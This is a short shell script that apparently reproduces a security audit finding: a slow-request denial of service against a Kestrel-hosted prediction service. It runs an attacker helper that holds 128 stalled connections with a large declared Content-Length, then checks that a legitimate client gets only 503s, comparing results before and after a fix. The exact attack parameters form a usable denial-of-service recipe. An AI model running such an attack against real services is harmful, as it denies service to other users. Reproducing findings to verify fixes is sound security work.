#!/bin/sh
# Finding 2: 128 connections from 32 addresses (4 each), each declaring Content-Length 4194303 and sending no body byte,
# reconnecting after Kestrel's minimum-data-rate 408 (~5.8 s), make every prediction of every client 503 for as long as it runs.
cd "$(dirname "$0")"
python3 slow.py --addrs 32 --first 20 --per-addr 4 --mode cl --cl 4194303 --stall-after 0 --duration 60 --reconnect > repro_global_503.attacker.json &
sleep 2
python3 legit.py 127.0.0.200 110 - 0.5 | tail -1          # before the fix (point 49): {"503": 110}; after: {"200": 110}
wait
